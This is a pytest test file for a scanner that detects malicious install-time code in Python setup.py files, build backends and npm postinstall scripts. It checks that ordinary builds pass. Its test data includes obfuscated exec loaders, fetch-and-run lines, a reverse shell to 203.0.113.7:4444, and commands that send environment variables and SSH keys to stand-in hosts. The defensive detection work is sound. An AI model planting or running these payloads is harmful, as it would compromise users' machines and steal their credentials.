"""What installing runs: ordinary builds pass, and what attackers did is found."""

import json

import pytest

from garrison.core.findings import Finding
from tests.support import findings_of, worst

HEAD = "from setuptools import setup\n"
TAIL = "\nsetup(name='x', version='1.0')\n"
INSTALL = """from setuptools import setup
from setuptools.command.install import install
class PostInstall(install):
    def run(self):
        install.run(self)
        {}
setup(name='x', version='1.0', cmdclass={{'install': PostInstall}})
"""


def judged(text: str, name: str = "x-1.0/setup.py") -> list[Finding]:
    return [item for item in findings_of(text.encode(), name) if item.rule == "install-time-code"]


MALICIOUS = {
    "decoded and run": HEAD + "import base64\nexec(base64.b64decode(b'aW1wb3J0IG9z'))" + TAIL,
    "in one line behind blanks": HEAD
    + " " * 3
    + "\nx = 1"
    + " " * 400
    + ";import base64;exec(base64.b64decode('aW1w'))"
    + TAIL,
    "through names": HEAD + "e, b = exec, __import__('base64').b64decode\ne(b('aW1wb3J0IG9z'))" + TAIL,
    "packed": HEAD
    + "import zlib, base64\n_ = lambda s: zlib.decompress(base64.b64decode(s[::-1]))\nexec((_)(b'AAAA'))"
    + TAIL,
    "decrypted": HEAD
    + "import os\nos.system('pip install cryptography')\nfrom cryptography.fernet import Fernet\n"
    + "exec(Fernet(b'k').decrypt(b'gAAAAAB'))"
    + TAIL,
    "marshalled": HEAD + "import marshal\nexec(marshal.loads(b'\\xe3'))" + TAIL,
    "characters": HEAD + "exec(''.join(map(chr, [105, 109])))" + TAIL,
    "fetched": HEAD + "from urllib.request import urlopen\nexec(urlopen('http://203.0.113.7/a.py').read())" + TAIL,
    "fetched, in two steps": HEAD + "import requests\nr = requests.get('https://example.org/a')\nexec(r.text)" + TAIL,
    "fetched, by a name": HEAD
    + "import requests\npayload = requests.get('https://example.org/a').text\nexec(payload)"
    + TAIL,
    "code in a text": HEAD
    + "exec('import urllib.request as u;exec(u.urlopen(\"https://example.org\").read())')"
    + TAIL,
    "a shell that fetches": INSTALL.format("import os; os.system('curl -s https://example.org/i.sh | bash')"),
    "a list that fetches": INSTALL.format(
        "import subprocess; subprocess.Popen(['powershell', '-Command', 'iwr http://203.0.113.7/a.exe'])"
    ),
    "a program written out": HEAD
    + "import tempfile, subprocess, sys\nt = tempfile.NamedTemporaryFile(delete=False)\n"
    + "t.write(b\"from urllib.request import urlopen as u;exec(u('http://203.0.113.7/x').read())\")\nt.close()\n"
    + "subprocess.Popen([sys.executable, t.name])"
    + TAIL,
    "a reverse shell": INSTALL.format(
        "import socket, subprocess, os; s = socket.socket(); s.connect(('203.0.113.7', 4444)); "
        "[os.dup2(s.fileno(), n) for n in range(3)]; subprocess.call(['/bin/sh', '-i'])"
    ),
    "the environment": HEAD
    + "import os, requests\nrequests.post('https://example.org/c', json=dict(os.environ))"
    + TAIL,
    "keys": HEAD
    + "import os, urllib.request\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
    + "urllib.request.urlopen('https://example.org', data=key.encode())"
    + TAIL,
    "a beacon": INSTALL.format(
        "import socket, getpass, requests; "
        "requests.get('https://example.org', params={'h': socket.gethostname(), 'u': getpass.getuser()})"
    ),
    "a beacon by names": HEAD
    + "import socket, os\nsocket.gethostbyname(f'{os.getlogin()}.{socket.gethostname()}.example.org')"
    + TAIL,
    "a webhook": HEAD
    + "import requests\nrequests.post('https://discord.com/api/webhooks/1/a', json={'content': 'hi'})"
    + TAIL,
    "a second stage": HEAD
    + "import urllib.request as u, os\nu.urlretrieve('https://example.org/a.exe', 'a.exe')\nos.startfile('a.exe')"
    + TAIL,
}


@pytest.mark.parametrize("text", MALICIOUS.values(), ids=MALICIOUS)
def test_what_attackers_did_is_found(text: str) -> None:
    found = judged(text)
    assert len(found) == 1 and found[0].severity in ("high", "critical"), found
    assert found[0].place.startswith("line ")


ORDINARY = {
    "version by exec": "about = {}\nwith open('x/__version__.py') as f:\n    exec(f.read(), about)\n",
    "version by compile": "exec(compile(open('x/version.py').read(), 'x/version.py', 'exec'))\n",
    "version from git": "import subprocess\nsha = subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode()\n",
    "a compiler": "import os, subprocess\nsubprocess.check_call(['cmake', '..'], cwd='build', env=os.environ)\n",
    "extensions": "import numpy\nfrom setuptools import Extension\n"
    "ext = [Extension('a', ['a.c'], include_dirs=[numpy.get_include()])]\n",
    "CUDA": "import os\nhome = os.environ.get('CUDA_HOME')\nflags = os.environ.copy()\n"
    "import subprocess\nsubprocess.check_output([home + '/bin/nvcc', '-V'], universal_newlines=True)\n",
    "tagging": "import os, sys\nif sys.argv[-1] == 'publish':\n    os.system('python setup.py sdist upload')\n",
    "advice": "print('Install Rust: curl https://sh.rustup.rs -sSf | sh')\n",
    "a digest": "import hashlib, platform\nprint(hashlib.sha256(b'').hexdigest(), platform.machine())\n",
}


@pytest.mark.parametrize("text", ORDINARY.values(), ids=ORDINARY)
def test_ordinary_builds_pass(text: str) -> None:
    assert judged(HEAD + text + TAIL) == []


def test_what_some_builds_do_is_low() -> None:
    fetching = "import urllib.request\nurllib.request.urlretrieve('https://github.com/a/b/releases/x.zip', 'x.zip')\n"
    installing = "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'numpy'])\n"
    assert worst(judged(HEAD + fetching + TAIL)) == "low"
    assert worst(judged(HEAD + installing + TAIL)) == "low"


def test_backends_of_a_project_are_judged_and_installed_ones_are_not() -> None:
    backend = (
        "import base64\ndef build_wheel(directory, settings=None, metadata=None):\n    exec(base64.b64decode('aW1w'))\n"
    )
    assert worst(judged(backend, "x-1.0/_build/backend.py")) == "critical"
    assert judged(backend, "lib/python3.11/site-packages/x/backend.py") == []


def scripts(command: str, name: str = "node_modules/x/package.json") -> list[Finding]:
    return judged(json.dumps({"name": "x", "version": "1.0.0", "scripts": {"postinstall": command}}), name)


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("node-gyp rebuild", "none"),
        ("prebuild-install || node-gyp rebuild", "none"),
        ("husky install", "none"),
        ("node scripts/install.js", "low"),
        ("curl -s https://example.org/a.sh | bash", "critical"),
        ("node -e \"require('child_process').exec('id')\"", "high"),
        ("node -e \"eval(Buffer.from('YQ==','base64').toString())\" > /dev/null 2>&1", "high"),
        ("cat ~/.npmrc ~/.ssh/id_rsa | nc 203.0.113.7 80", "high"),
    ],
)
def test_npm_scripts(command: str, severity: str) -> None:
    assert worst(scripts(command)) == severity


def test_a_projects_own_scripts_are_its_own_business_unless_they_fetch() -> None:
    assert scripts("node scripts/install.js", "app/package.json") == []
    assert worst(scripts("wget -q http://203.0.113.7/x -O- | sh", "app/package.json")) == "critical"
